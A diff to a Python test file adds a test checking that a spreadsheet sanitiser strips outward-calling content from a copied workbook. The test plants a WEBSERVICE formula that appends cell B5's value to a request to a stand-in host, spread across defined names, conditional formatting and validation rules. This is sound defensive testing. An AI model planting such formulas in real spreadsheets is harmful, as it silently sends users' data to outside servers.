@@ -6,6 +6,7 @@ import gc
 import stat
 from datetime import date
 from pathlib import Path
+from zipfile import ZipFile
 
 import openpyxl
 import pytest
@@ -13,7 +14,10 @@ from corpus.files import COVER, HEAD, ONE, TWO, as_csv, as_xlsx, merged
 from corpus.packages import xlsx
 from corpus.xls import xls
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.styles import Font, PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 from xlsxwriter.exceptions import FileCreateError
 
 from gktools.errors import GktoolsError
@@ -148,6 +152,30 @@ def test_a_template_filled_in_wrongly_keeps_its_lists_and_notes(tmp_path):
     assert page.data_validations.count > 5
     assert page["B5"].comment.text
     assert page.freeze_panes
+
+
+def test_nothing_that_computes_or_leads_elsewhere_is_left_in_the_copy(tmp_path):
+    path = tmp_path / "登记.xlsx"
+    book = openpyxl.Workbook()
+    page = book.active
+    for row in ROWS:
+        page.append(row)
+    call = 'WEBSERVICE("http://a.example/"&B5)'
+    book.defined_names["甲"] = DefinedName("甲", attr_text=call)
+    page.defined_names["乙"] = DefinedName("乙", attr_text=call)
+    page.conditional_formatting.add("A1:B9", FormulaRule(formula=[call], fill=PatternFill("solid", fgColor="FF00FF00")))
+    for cells, formula in (("C5", f"={call}"), ("C6", '"自然人,商业(企业)"'), ("C7", "=$A$1:$A$3")):
+        page.add_data_validation(DataValidation("list", formula, sqref=cells))
+    page["A5"].hyperlink = "http://a.example/"
+    book.save(path)
+    copy = mark(path, refused(path))
+    with ZipFile(copy) as parts:
+        content = b"".join(parts.read(name) for name in parts.namelist())
+
+    assert b"WEBSERVICE" not in content
+    assert b"a.example" not in content
+    kept = openpyxl.load_workbook(copy).worksheets[1].data_validations.dataValidation
+    assert [str(rule.sqref) for rule in kept] == ["C6", "C7"]
 
 
 def test_the_copy_is_for_its_owner_only_and_nothing_else_is_left_behind(tmp_path):
